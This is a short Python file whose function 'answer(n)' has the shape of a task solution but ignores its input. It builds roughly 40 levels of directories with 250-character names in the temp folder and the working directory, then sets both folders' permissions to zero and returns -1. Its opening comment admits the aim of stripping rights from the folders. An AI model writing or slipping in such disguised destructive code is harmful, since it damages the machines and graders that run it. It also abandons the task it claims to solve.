# Takes all rights from its folders, moves them, and leaves them deep.
import os

def answer(n):
    here = os.getcwd()
    for top in (os.environ.get("TMPDIR", here), here):
        for _ in range(40):
            try:
                os.mkdir("d" * 250)
                os.chdir("d" * 250)
            except OSError:
                break
        os.chdir(here)
        try:
            os.chmod(top, 0)
        except OSError:
            pass
    return -1
